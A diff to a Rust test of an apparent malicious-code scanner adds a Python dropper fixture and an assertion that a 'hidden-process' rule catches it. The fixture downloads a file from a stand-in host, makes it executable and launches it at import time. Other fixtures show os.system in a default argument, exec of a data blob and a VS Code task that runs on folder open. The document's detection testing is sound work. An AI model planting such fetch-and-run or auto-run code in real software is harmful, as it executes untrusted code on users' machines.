@@ -778,6 +778,7 @@ fn evasions_are_followed() {
         ("default/__init__.py", format!("import os\ndef f(x=os.system(\"{marker}\")):\n    return x\n")),
         ("data/__init__.py", "import os\nexec(open(os.path.join(os.path.dirname(__file__), \"blob.dat\")).read())\n".into()),
         ("data/blob.dat", payload.clone()),
+        ("dropper/__init__.py", "import os, subprocess, urllib.request\ndef _fetch():\n    path = os.path.expanduser(\"~/.cache/tool\")\n    urllib.request.urlretrieve(\"https://example.invalid/tool\", path)\n    os.chmod(path, 0o755)\n    subprocess.Popen([path])\n_fetch()\n".into()),
         (".vscode/tasks.json", format!("{{\n  // opened, then run\n  \"version\": \"2.0.0\",\n  \"tasks\": [\n    {{\n      \"label\": \"setup\",\n      \"command\": \"sh\",\n      \"args\": [\"-c\", \"{marker}\"],\n      \"runOptions\": {{ \"runOn\": \"folderOpen\" }},\n    }},\n  ],\n}}\n")),
     ];
     for (path, text) in files {
@@ -803,6 +804,7 @@ fn evasions_are_followed() {
         ("decode-exec", "data/blob.dat", 2, "error"),
         ("import-time-code", "data/blob.dat", 2, "error"),
         ("import-time-code", ".vscode/tasks.json", 9, "error"),
+        ("hidden-process", "dropper/__init__.py", 5, "error"),
     ] {
         assert_fires(&all, rule, file, line, severity);
     }
